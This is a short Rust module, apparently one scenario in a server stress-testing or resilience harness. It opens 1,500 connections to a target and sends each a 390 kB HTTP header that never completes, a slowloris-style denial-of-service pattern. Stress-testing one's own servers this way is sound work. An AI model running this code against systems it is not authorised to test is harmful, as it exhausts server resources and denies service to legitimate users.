//! 1,500 connections of strangers, each with 390 kB of a header that never ends.

use super::{Against, InForce, connection};

const CONNECTIONS: usize = 1_500;
const HEADER_BYTES: usize = 390_000;

pub async fn run(against: Against, in_force: InForce) {
    let header = format!("GET /trigger HTTP/1.1\r\nhost: attack\r\nx-endless: {}", "x".repeat(HEADER_BYTES));
    connection::hold_many(against.public, CONNECTIONS, header.as_bytes(), in_force).await;
}
